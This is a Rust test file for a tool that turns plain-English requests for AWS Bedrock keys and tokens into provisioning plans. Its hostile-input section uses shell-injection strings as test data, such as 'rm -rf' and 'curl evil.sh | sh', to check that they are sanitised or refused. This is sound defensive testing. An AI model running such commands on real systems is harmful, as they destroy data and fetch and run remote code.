//! The phrasing table: every row is a request and the plan (or the error) it must give, with
//! no terminal to ask on. Plans are compared in a compact form:
//! `action [unit=…] [ttl=seconds] [owner=…] [region=…] [store=…]`; errors as `error: <part of the
//! message>` (and every error must carry a hint and exit with `USAGE`).

use super::lexicon::{Lean, Strength, VerbKind};
use super::{NoTerminal, Plan, Questions, extract, understand};
use crate::wire::exit;
use std::fmt::Write as _;

fn summary(plan: &Plan) -> String {
    let mut out = plan.action.as_str().to_owned();
    if let Some(unit) = &plan.business_unit {
        let _ = write!(out, " unit={unit}");
    }
    if let Some(ttl) = plan.ttl {
        let _ = write!(out, " ttl={}", ttl.as_secs());
    }
    if let Some(owner) = &plan.owner {
        let _ = write!(out, " owner={owner}");
    }
    if let Some(region) = &plan.region {
        let _ = write!(out, " region={region}");
    }
    if let Some(store) = plan.store {
        let _ = write!(out, " store={}", store.as_arg());
    }
    out
}

const TOKEN: &str = "generate_token ttl=43200";
const NO_UNIT: &str =
    "error: a long-term key belongs to a business unit, and the request names none";

/// (request, expected plan or error)
const ROWS: &[(&str, &str)] = &[
    // Everyday ways to ask, as people type them (the README's table shows most).
    ("I need an API key for Bedrock", TOKEN),
    ("Generate Bedrock API key", TOKEN),
    ("Quick Bedrock access", TOKEN),
    ("Bedrock API key for testing", TOKEN),
    ("Bedrock access for production", TOKEN),
    ("Bedrock key for CI/CD", NO_UNIT),
    ("Long-term Bedrock credentials", NO_UNIT),
    ("Bedrock key for marketing", "create_key unit=marketing"),
    ("bedrock access for production-api", "create_key unit=production-api"),
    ("Refresh my Bedrock token", TOKEN),
    ("New Bedrock API key", TOKEN),
    ("Quick Bedrock access for 30 minutes", "generate_token ttl=1800"),
    (
        "Bedrock key for Marketing Team, owner: jane@corp.com, in eu-west-1",
        "create_key unit=marketing-team owner=jane@corp.com region=eu-west-1",
    ),
    ("rotate the key for data-science", "rotate_key unit=data-science"),
    ("create long-term key for marketing", "create_key unit=marketing"),
    ("create token", TOKEN),
    // Words that settle the key type (lexicon.rs).
    ("Bedrock key for development", TOKEN),
    ("Bedrock key for a quick test", TOKEN),
    ("I want to try out Bedrock", TOKEN),
    ("Bedrock key to experiment with Claude", TOKEN),
    ("Bedrock key for automation", NO_UNIT),
    ("Bedrock key for our production server", NO_UNIT),
    ("Bedrock credentials for a batch system", NO_UNIT),
    ("Bedrock key for the data pipeline service", NO_UNIT),
    ("Bedrock key for CI/CD for the data-science team", "create_key unit=data-science"),
    ("Bedrock key for the data-science team's nightly batch jobs", "create_key unit=data-science"),
    ("Bedrock key for marketing automation", NO_UNIT),
    ("Bedrock key for marketing, for automation", "create_key unit=marketing"),
    // TTL forms.
    ("Bedrock token for 6 hours", "generate_token ttl=21600"),
    ("bedrock token, 90 min", "generate_token ttl=5400"),
    ("token for 1.5h", "generate_token ttl=5400"),
    ("a 1h30m token", "generate_token ttl=5400"),
    ("Bedrock token valid for 2 hours and 30 minutes", "generate_token ttl=9000"),
    ("Bedrock token for one hour", "generate_token ttl=3600"),
    ("half an hour of Bedrock access", "generate_token ttl=1800"),
    ("a 12-hour Bedrock token", TOKEN),
    ("Bedrock token for 15 minutes", "generate_token ttl=900"),
    ("Bedrock token for 3600 seconds", "generate_token ttl=3600"),
    ("Give me a bedrock token for the next 3 hours", "generate_token ttl=10800"),
    ("Bedrock token expires in 20 minutes", "generate_token ttl=1200"),
    ("bedrock key 6hrs", "generate_token ttl=21600"),
    ("Bedrock token for 6h, yes 6 hours", "generate_token ttl=21600"),
    ("Bedrock token for 10 minutes", "error: outside the allowed range of 15 minutes to 12 hours"),
    ("Bedrock token for 13 hours", "error: outside the allowed range of 15 minutes to 12 hours"),
    ("Bedrock token for 2 days", "error: longer than a short-term token can last"),
    ("Bedrock token for a week", "error: longer than a short-term token can last"),
    ("token for 6 hours, no wait, 30 minutes", "error: the request names two lifetimes"),
    // Case, punctuation and word order.
    ("BEDROCK KEY FOR MARKETING TEAM", "create_key unit=marketing-team"),
    ("bedrock key for marketing team!!!", "create_key unit=marketing-team"),
    (
        "In eu-west-1, a Bedrock key for Marketing Team; owner: jane@corp.com.",
        "create_key unit=marketing-team owner=jane@corp.com region=eu-west-1",
    ),
    (
        "owner: jane@corp.com - Bedrock key for Marketing Team in eu-west-1",
        "create_key unit=marketing-team owner=jane@corp.com region=eu-west-1",
    ),
    ("Marketing Team access to Bedrock", "create_key unit=marketing-team"),
    ("data science access, region: us-west-2", "create_key unit=data-science region=us-west-2"),
    ("Bedrock for 6 hours in EU-WEST-1", "generate_token ttl=21600 region=eu-west-1"),
    ("\"Bedrock key\" (for Marketing Team)", "create_key unit=marketing-team"),
    ("give the data science team a Bedrock key", "create_key unit=data-science"),
    ("business unit: Finance Ops", "create_key unit=finance-ops"),
    (
        "Bedrock key, business unit marketing, owner jane@corp.com",
        "create_key unit=marketing owner=jane@corp.com",
    ),
    ("for the Platform Team: a Bedrock key", "create_key unit=platform"),
    ("Bedrock key for team: ml", "create_key unit=ml"),
    ("Bedrock access for the security team's SIEM integration", "create_key unit=security"),
    (
        "Can I get a Bedrock key for our analytics team in us-west-2?",
        "create_key unit=analytics region=us-west-2",
    ),
    // Regions.
    ("Bedrock token in us-west-2", "generate_token ttl=43200 region=us-west-2"),
    ("token, region: ap-southeast-2", "generate_token ttl=43200 region=ap-southeast-2"),
    ("token in eu-west-1, in eu-west-1 please", "generate_token ttl=43200 region=eu-west-1"),
    ("token in eu-west-1 and us-east-1", "error: the request names two regions"),
    ("token region: mars", "error: `mars` is not an AWS region name"),
    ("token in mars-1", "error: `mars-1` is not an AWS region name"),
    // Owners.
    (
        "Bedrock key for marketing owned by jane@corp.com",
        "create_key unit=marketing owner=jane@corp.com",
    ),
    (
        "Bedrock key for marketing, owner: JANE@corp.com, jane@corp.com",
        "create_key unit=marketing owner=JANE@corp.com",
    ),
    ("Bedrock token for testing, I'm jane@corp.com", TOKEN),
    ("Bedrock key for marketing, owner: jane@", "error: \"jane@\" is not an email address"),
    ("Bedrock key for marketing, owner: jane", "error: the owner must be an email address"),
    (
        "Bedrock key for marketing, owner: jane@corp.com, cc bob@corp.com",
        "error: the request names two owner emails",
    ),
    // Contradictions.
    (
        "Bedrock key for Marketing Team for 6 hours",
        "error: a lifetime (\"6 hours\") is for short-term tokens",
    ),
    (
        "long-term key for marketing valid for 6 hours",
        "error: a lifetime (\"6 hours\") is for short-term tokens",
    ),
    ("long-term Bedrock token for 6 hours", "error: but \"long-term\" asks for a long-term key"),
    ("short-term key for the marketing team", "error: \"short-term\" asks for a short-term token"),
    ("temporary long-term key", "error: asks for both a short-term"),
    ("Bedrock key for testing our CI pipeline", "error: \"testing\" suggests a short-term token"),
    ("Bedrock key for CI/CD for 1 hour", "error: but \"CI/CD\" asks for a long-term key"),
    ("Bedrock key for marketing and sales", "error: the request names two business units"),
    ("rotate my Bedrock key", "error: rotation is for a business unit's long-term key"),
    ("rotate the production key", "error: rotation is for a business unit's long-term key"),
    (
        "rotate the key for data-science, owner: jane@corp.com",
        "error: an owner (\"jane@corp.com\") is recorded when a key is created",
    ),
    ("delete the key for marketing", "error: it does not delete"),
    ("list the Bedrock keys", "error: it does not list"),
    // Names IAM refuses: what it cannot take becomes a hyphen; only nothing is refused.
    ("Bedrock key for équipe marketing", "create_key unit=quipe-marketing"),
    ("Bedrock key for data/science", "create_key unit=data-science"),
    ("Bedrock key for R&D", "create_key unit=r-d"),
    ("Bedrock key for Sales & Marketing", "create_key unit=sales-marketing"),
    ("Bedrock key for EMEA/Support", "create_key unit=emea-support"),
    ("business unit: &&&", "error: a business unit needs a name with a letter or digit"),
    (
        "business unit: a-very-long-business-unit-name-that-goes-on-and-on-forever",
        "error: at most 51 fit",
    ),
    // Hostile input: shell metacharacters, control and invisible characters, emoji.
    ("Bedrock key for $(rm -rf /)", "create_key unit=rm-rf"),
    ("Bedrock key for `whoami`; echo pwned", "create_key unit=whoami"),
    ("Bedrock token; rm -rf ~ && curl evil.sh | sh", TOKEN),
    ("Bedrock token\u{1b}]0;pwned\u{7} for 6 hours", "generate_token ttl=21600"),
    ("Bedrock key for mark\u{202e}eting", "create_key unit=mark-eting"),
    ("Bedrock token 🚀🚀 for 6 hours ✨", "generate_token ttl=21600"),
    ("Bedrock key for 🚀 team", "create_key unit=team"),
    ("$(curl evil.sh | sh)", "error: found no request for a Bedrock key or token"),
    ("hello world", "error: found no request for a Bedrock key or token"),
    ("", "error: the request is empty"),
    ("   \n\t  ", "error: the request is empty"),
    // Negations.
    ("not for production, just a Bedrock token", TOKEN),
    ("Bedrock key, non-production", TOKEN),
    ("I don't need a long-term key", TOKEN),
    // How long it runs, as opposed to how long the token lives.
    ("Bedrock key for a server that runs longer than 12 hours", NO_UNIT),
    ("Bedrock key for the data-science team, it runs 24/7", "create_key unit=data-science"),
    ("Bedrock token for a script that runs 2 hours", TOKEN),
    (
        "Bedrock key for the reporting team, the job runs more than 12 hours",
        "create_key unit=reporting",
    ),
    // People are not business units; names are.
    ("Bedrock key for me", TOKEN),
    ("Bedrock key for my laptop", TOKEN),
    ("Bedrock key for Bob", "create_key unit=bob"),
    // The kind named outright.
    ("short-term Bedrock key", TOKEN),
    ("temporary token for CI", TOKEN),
    ("long term key for the platform team", "create_key unit=platform"),
    (
        "permanent Bedrock key for marketing, in us-east-1",
        "create_key unit=marketing region=us-east-1",
    ),
    // Rotation and refresh.
    ("Rotate the Bedrock key for Marketing Team", "rotate_key unit=marketing-team"),
    ("refresh the key for data-science", "rotate_key unit=data-science"),
    ("rotation for business unit data-science", "rotate_key unit=data-science"),
    ("please rotate my token", TOKEN),
    ("renew my Bedrock token for 6 hours", "generate_token ttl=21600"),
    // "production" settled by something else in the request.
    ("production access for 6 hours", "generate_token ttl=21600"),
    ("Bedrock key for production, for the payments team", "create_key unit=payments"),
    ("production server key for the payments team", "create_key unit=payments"),
    ("Bedrock key for the prod environment", TOKEN),
    // The phrasing the hints suggest works as suggested.
    ("long-term Bedrock key for production for the payments team", "create_key unit=payments"),
    ("I need a Bedrock API key for our customer support chatbot", NO_UNIT),
    // Where the secret goes.
    ("Bedrock key for fleet in Secrets Manager", "create_key unit=fleet store=secretsmanager"),
    (
        "Bedrock key for the fleet team, stored in AWS Secrets Manager",
        "create_key unit=fleet store=secretsmanager",
    ),
    (
        "Bedrock key for marketing, keep it in the OS keyring",
        "create_key unit=marketing store=keyring",
    ),
    (
        "rotate the key for laptop-tools in the keyring, in eu-west-1",
        "rotate_key unit=laptop-tools region=eu-west-1 store=keyring",
    ),
    ("Bedrock token for 6 hours in secrets manager", "generate_token ttl=21600"),
    (
        "Bedrock key for ops in secrets manager and in the keyring",
        "error: the request names two stores",
    ),
];

fn outcome(text: &str) -> String {
    match understand(text, &mut NoTerminal) {
        Ok(plan) => summary(&plan),
        Err(error) => {
            assert_eq!(error.exit_code(), exit::USAGE, "{text:?}: {error}");
            assert!(!error.hint().is_empty(), "{text:?}: no hint for {error}");
            format!("error: {error}")
        }
    }
}

#[test]
fn every_phrasing_gives_its_plan() {
    let mut failures = Vec::new();
    for (text, expected) in ROWS {
        let got = outcome(text);
        let ok = match expected.strip_prefix("error: ") {
            Some(part) => got.starts_with("error: ") && got.contains(part),
            None => got == *expected,
        };
        if !ok {
            failures.push(format!("{text:?}\n    expected {expected}\n    got      {got}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} rows failed:\n{}",
        failures.len(),
        ROWS.len(),
        failures.join("\n")
    );
    assert!(ROWS.len() >= 100, "the table shrank to {} rows", ROWS.len());
}

#[test]
fn huge_input_is_refused_quickly_and_the_limit_is_exact() {
    let huge = "Bedrock token for 6 hours ".repeat(400);
    assert!(huge.len() > 10_000);
    let started = std::time::Instant::now();
    assert!(outcome(&huge).contains("characters long; bedprov reads requests of up to 1000"));
    assert!(started.elapsed() < std::time::Duration::from_millis(100));

    let at_limit = format!("Bedrock token {}", "x".repeat(super::MAX_CHARS - 14));
    assert_eq!(at_limit.chars().count(), super::MAX_CHARS);
    assert_eq!(outcome(&at_limit), TOKEN);
    // Multi-byte characters count as one each.
    let unicode = format!("Bedrock token {}", "é".repeat(super::MAX_CHARS - 14));
    assert_eq!(outcome(&unicode), TOKEN);
    assert!(outcome(&format!("{unicode}é")).contains("1001 characters long"));
}

#[test]
fn many_words_within_the_limit_stay_fast() {
    let text = "for a ".repeat(166);
    let started = std::time::Instant::now();
    for _ in 0..20 {
        let _ = outcome(&format!("Bedrock token {text}"));
    }
    assert!(started.elapsed() < std::time::Duration::from_secs(1));
}

/// Answers the production question as told (does it run longer than a token lasts?), and
/// counts how often it was asked.
struct Answer(Option<bool>, usize);

impl Questions for Answer {
    fn can_ask(&self) -> bool {
        true
    }

    fn confirm(&mut self, question: &str, _default: bool) -> std::io::Result<Option<bool>> {
        panic!("a plan asks no yes/no question: {question}")
    }

    fn choose(&mut self, question: &str, options: &[&str]) -> std::io::Result<Option<usize>> {
        assert_eq!(
            question,
            "\"production\": will it run longer than 12 hours without a person restarting it?"
        );
        assert!(options[0].starts_with("No: a short-term token"), "{options:?}");
        assert!(options[1].starts_with("Yes: a long-term IAM key"), "{options:?}");
        self.1 += 1;
        Ok(self.0.map(usize::from))
    }
}

#[test]
fn production_alone_is_asked_on_a_terminal() {
    let mut no = Answer(Some(false), 0);
    let plan = understand("Bedrock access for production", &mut no).unwrap();
    assert_eq!((summary(&plan).as_str(), no.1), (TOKEN, 1));
    assert!(plan.reason.contains("12 hours or less (your answer)"), "{}", plan.reason);

    // Long-running, but no unit named: explained, not guessed.
    let mut yes = Answer(Some(true), 0);
    let err = understand("Bedrock access for production", &mut yes).unwrap_err();
    assert!(err.to_string().contains("names none"), "{err}");
    assert!(err.hint().contains("for the UNIT team"), "{}", err.hint());
}

#[test]
fn production_alone_without_a_terminal_says_why_and_how() {
    let plan = understand("Bedrock access for production", &mut NoTerminal).unwrap();
    assert!(
        plan.reason
            .contains("\"production\" alone does not say whether it runs longer than 12 hours")
    );
    assert!(plan.reason.contains("no terminal to ask"));
    assert!(
        plan.notes.iter().any(|n| n.contains(
            r#"bedprov request "long-term Bedrock key for production for the UNIT team""#
        )),
        "{:?}",
        plan.notes
    );
}

#[test]
fn the_question_is_asked_only_when_production_is_all_there_is() {
    for text in [
        "Bedrock key for 6 hours",
        "Bedrock key for marketing",
        "production access for 6 hours",
        "production server key for the payments team",
        "not for production, a token",
    ] {
        let mut asked = Answer(None, 0);
        understand(text, &mut asked).unwrap();
        assert_eq!(asked.1, 0, "{text}");
    }
}

#[test]
fn raw_intent_records_what_was_said_and_where() {
    let text = "Bedrock key for Marketing Team, owner: jane@corp.com, in eu-west-1 for CI/CD";
    let raw = extract(text).unwrap();
    let at = |span: &std::ops::Range<usize>| &text[span.clone()];
    assert_eq!(raw.units.len(), 1);
    assert_eq!(raw.units[0].value, "Marketing Team");
    assert_eq!(at(&raw.units[0].span), "Marketing Team");
    assert_eq!(raw.emails.iter().map(|e| at(&e.span)).collect::<Vec<_>>(), ["jane@corp.com"]);
    assert_eq!(raw.regions.iter().map(|r| at(&r.span)).collect::<Vec<_>>(), ["eu-west-1"]);
    assert_eq!(raw.signals.len(), 1);
    assert_eq!(at(&raw.signals[0].span), "CI/CD");
    assert_eq!(
        (raw.signals[0].value.lean, raw.signals[0].value.strength),
        (Lean::Long, Strength::Usage)
    );
    assert!(raw.durations.is_empty() && raw.verbs.is_empty() && raw.recognised);

    let raw = extract("please rotate the key for data-science, 1 hour 30 minutes").unwrap();
    assert_eq!(raw.verbs.iter().map(|v| v.value).collect::<Vec<_>>(), [VerbKind::Rotate]);
    assert_eq!(raw.durations.len(), 1);
    assert_eq!(raw.durations[0].text, "1 hour 30 minutes");
    assert_eq!(raw.durations[0].value, super::DurationSaid::Ttl("1h30m".into()));
}

#[test]
fn negated_words_are_kept_to_explain_not_to_count() {
    let plan = understand("not for production, just a Bedrock token", &mut NoTerminal).unwrap();
    assert!(
        plan.notes.iter().any(|n| n.contains("not counted: \"production\"")),
        "{:?}",
        plan.notes
    );
}

#[test]
fn plans_become_the_commands_a_person_would_type() {
    let argv = |text: &str| understand(text, &mut NoTerminal).unwrap().argv().join(" ");
    assert_eq!(argv("Bedrock token for 6 hours in eu-west-1"), "token --ttl 6h --region eu-west-1");
    assert_eq!(argv("I need an API key for Bedrock"), "token");
    assert_eq!(argv("token for 90 minutes"), "token --ttl 1h30m");
    assert_eq!(
        argv("Bedrock key for Marketing Team, owner: jane@corp.com, in eu-west-1"),
        "key create --business-unit marketing-team --owner jane@corp.com --region eu-west-1"
    );
    assert_eq!(argv("rotate the key for data-science"), "key rotate --business-unit data-science");
}

#[test]
fn short_term_plans_say_what_they_leave_out() {
    let plan = understand("Bedrock token for testing, I'm jane@corp.com", &mut NoTerminal).unwrap();
    assert!(plan.notes.iter().any(|n| n.contains("owner jane@corp.com is not used")));
    let plan = understand("Refresh my Bedrock token", &mut NoTerminal).unwrap();
    assert!(plan.notes.iter().any(|n| n.contains("the old one expires on its own")));
    let plan = understand("temporary token for CI", &mut NoTerminal).unwrap();
    assert!(plan.reason.contains("asked for by name (\"temporary\")"));
    assert!(plan.notes.iter().any(|n| n.contains("bedprov daemon start")));
}

#[test]
fn long_term_plans_always_carry_the_security_warning() {
    for text in ["Bedrock key for marketing", "rotate the key for data-science"] {
        let plan = understand(text, &mut NoTerminal).unwrap();
        assert!(plan.notes.iter().any(|n| n.contains("rotate it every 30-90 days")), "{text}");
    }
}
